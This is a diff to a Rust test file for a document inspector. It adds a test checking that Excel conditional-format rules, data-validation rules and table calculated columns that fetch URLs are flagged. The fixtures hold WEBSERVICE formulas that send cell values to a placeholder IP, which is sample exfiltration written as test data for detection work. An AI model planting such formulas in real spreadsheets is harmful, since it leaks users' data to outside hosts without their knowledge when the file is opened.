@@ -383,6 +383,46 @@ fn excel_formulas_that_fetch_and_macro_sheets_are_found() {
     assert_eq!(r.macros, ["`xl/macrosheets/sheet1.xml`"]);
 }
 
+/// Excel works out a conditional format's and a data validation's rule as
+/// it draws the sheet, and a table's calculated column as it calculates:
+/// a `WEBSERVICE` there fetched on opening as a cell's does, and passed.
+#[test]
+fn excel_rules_and_calculated_columns_that_fetch_are_found() {
+    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+    let sheet = format!(
+        "<worksheet xmlns=\"{main}\" xmlns:x14=\"x14\" xmlns:xm=\"xm\"><sheetData><row r=\"1\"><c r=\"A1\"><f>SUM(B1:B2)</f></c></row></sheetData>\
+         <conditionalFormatting sqref=\"A1:A9\"><cfRule type=\"expression\" priority=\"1\"><formula>LEN(WEBSERVICE(\"https://203.0.113.9/?c=\"&amp;A1))&gt;0</formula></cfRule></conditionalFormatting>\
+         <conditionalFormatting sqref=\"C1\"><cfRule type=\"expression\"><formula>C1&gt;2</formula></cfRule></conditionalFormatting>\
+         <dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"B2\"><formula1>FILTERXML(WEBSERVICE(\"https://203.0.113.9/l\"),\"//i\")</formula1></dataValidation></dataValidations>\
+         <extLst><ext><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\"><xm:f>ISNUMBER(WEBSERVICE(\"https://203.0.113.9/x\"))</xm:f></x14:cfRule><xm:sqref>D1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst></worksheet>"
+    );
+    let table = format!(
+        "<table xmlns=\"{main}\" id=\"1\" name=\"T\" ref=\"A1:B3\"><tableColumns count=\"2\"><tableColumn id=\"1\" name=\"Id\"/><tableColumn id=\"2\" name=\"Check\"><calculatedColumnFormula>WEBSERVICE(\"https://203.0.113.9/t?\"&amp;[@Id])</calculatedColumnFormula></tableColumn></tableColumns></table>"
+    );
+    let bytes = package(&[
+        ("xl/workbook.xml", "<workbook/>"),
+        ("xl/worksheets/sheet1.xml", &sheet),
+        ("xl/tables/table1.xml", &table),
+    ]);
+    let r = inspect("xlsx", &bytes).unwrap();
+    let at: Vec<&str> = r
+        .fetching_cells
+        .iter()
+        .map(|c| c.split(" calls ").next().unwrap())
+        .collect();
+    assert_eq!(
+        at,
+        [
+            "the rule for cells A1:A9 of `xl/worksheets/sheet1.xml`",
+            "the rule for cells B2 of `xl/worksheets/sheet1.xml`",
+            "a conditional format's or data validation's rule of `xl/worksheets/sheet1.xml`",
+            "a table's calculated column of `xl/tables/table1.xml`",
+        ],
+        "{:?}",
+        r.fetching_cells
+    );
+}
+
 #[test]
 fn mouse_overs_are_found_in_any_slide_part_by_their_relationship() {
     let layout = "<p:sldLayout xmlns:p=\"p\" xmlns:a=\"a\" xmlns:r=\"r\"><a:r><a:rPr><a:hlinkMouseOver r:id=\"rId0\"/></a:rPr></a:r><a:hlinkHover r:id=\"\" action=\"ppaction://hlinkshowjump?jump=nextslide\"/><a:hlinkClick r:id=\"rId1\"/></p:sldLayout>";
